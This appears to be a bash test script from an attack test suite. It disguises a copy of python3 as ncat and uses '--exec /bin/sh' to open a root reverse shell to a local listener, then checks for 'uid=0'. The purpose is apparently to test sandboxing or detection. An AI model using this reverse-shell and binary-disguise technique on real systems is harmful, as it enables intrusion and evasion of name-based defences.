#!/usr/bin/env bash
# netcat connects and has a shell on pipes take its commands from there. It is a copy of Python that does what ncat's
# option --exec does, in a folder that only this script sees: not every host has an ncat.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts
own_folder /usr/local/bin

python3 "$peer" operator "$work/port" "$work/answers" 1 &
operator=$!
wait_for "$work/port"
cp "$(readlink -f /usr/bin/python3)" /usr/local/bin/ncat
/usr/local/bin/ncat -I "$here/relay.py" 127.0.0.1 "$(<"$work/port")" --exec /bin/sh
wait "$operator"
grep -q 'uid=0' "$work/answers" || fail "the shell did not answer"
